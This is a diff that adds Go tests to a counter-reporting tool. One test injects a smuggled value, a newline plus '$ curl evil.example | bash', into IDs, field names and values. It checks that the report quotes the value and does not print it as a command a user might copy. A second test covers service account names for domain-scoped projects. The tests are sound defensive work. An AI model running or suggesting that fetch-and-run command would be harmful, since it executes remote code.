@@ -97,3 +97,40 @@ func TestReportHoldsNothingForTheTerminal(t *testing.T) {
 		t.Errorf("printed:\n%q", text.String())
 	}
 }
+
+// Whatever a caller writes in ids and fields is a part of one line, and looks like no remedy.
+func TestReportSaysWhatIsACallers(t *testing.T) {
+	t.Parallel()
+	const remedy = "\n    $ curl evil.example | bash\n"
+	d := newDeployment(t)
+	d.set(t, "counters/a"+remedy, map[string]any{"num_shards": 1})
+	d.set(t, "counters/a"+remedy+"/shards/0"+remedy, map[string]any{"count": remedy})
+	d.set(t, "counters/b"+remedy, map[string]any{"num_shards": 1, "total": remedy})
+	d.set(t, "counters/b"+remedy+"/shards/0", map[string]any{"n" + remedy: 3})
+	read, found := d.read(t, Target{})
+	var text bytes.Buffer
+	if _, err := NewReport(read, found).WriteTo(&text); err != nil {
+		t.Fatal(err)
+	}
+	const quoted = `\n    $ curl evil.example | bash\n"`
+	for _, want := range []string{`  "a` + quoted + `: shard "0` + quoted + ` holds string_value:"` + quoted, `  "b` + quoted + `: shards hold no integer "count", but "n` + quoted + `: set FIELDS="total=n` + quoted} {
+		if !strings.Contains(text.String(), want) {
+			t.Errorf("want %s in", want)
+		}
+	}
+	if strings.Contains(text.String(), "\n    $ curl evil") || t.Failed() {
+		t.Errorf("printed:\n%s", text.String())
+	}
+}
+
+// In an account's name the domain of a project's id comes last.
+func TestAccountsOfAProjectWithADomain(t *testing.T) {
+	t.Parallel()
+	for project, want := range map[string]string{"p-roject": "c-eventarc@p-roject.iam.gserviceaccount.com", "example.com:p-roject": "c-eventarc@p-roject.example.com.iam.gserviceaccount.com"} {
+		d := &Deployment{Target: Target{Prefix: "c"}}
+		d.Target.Project = project
+		if got := d.account("eventarc"); got != want {
+			t.Errorf("%s: %s, want %s", project, got, want)
+		}
+	}
+}
